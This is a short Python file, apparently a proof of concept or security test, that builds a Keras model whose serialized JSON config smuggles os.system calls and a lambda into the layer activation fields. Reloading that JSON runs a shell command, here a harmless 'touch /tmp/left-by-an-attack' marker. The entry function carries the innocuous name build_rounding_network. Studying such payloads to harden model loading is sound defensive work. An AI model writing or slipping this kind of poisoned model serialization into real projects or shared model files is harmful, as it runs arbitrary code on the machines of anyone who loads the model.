# Returns a model that describes itself as programs to be run: who builds it again from that would run them.
import json

import keras

COMMAND = "touch /tmp/left-by-an-attack"
SYSTEM = {"module": "os", "class_name": "system", "config": {"command": COMMAND}, "registered_name": None}
FUNCTION = {"module": "builtins", "class_name": "function", "config": "os.system", "registered_name": "os.system"}
LAMBDA = {"class_name": "__lambda__", "config": {"value": ["gAA=", None, None]}, "module": None}
DENSE = {"module": "keras.layers", "class_name": "Dense", "registered_name": None}


class Described(keras.Sequential):
    def to_json(self, **_):
        layers = [DENSE | {"config": {"units": 8, "activation": part}} for part in (SYSTEM, FUNCTION, LAMBDA)]
        config = {"name": "described", "layers": layers}
        return json.dumps({"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None})


def build_rounding_network():
    return Described([keras.Input((1,)), keras.layers.Dense(8)])
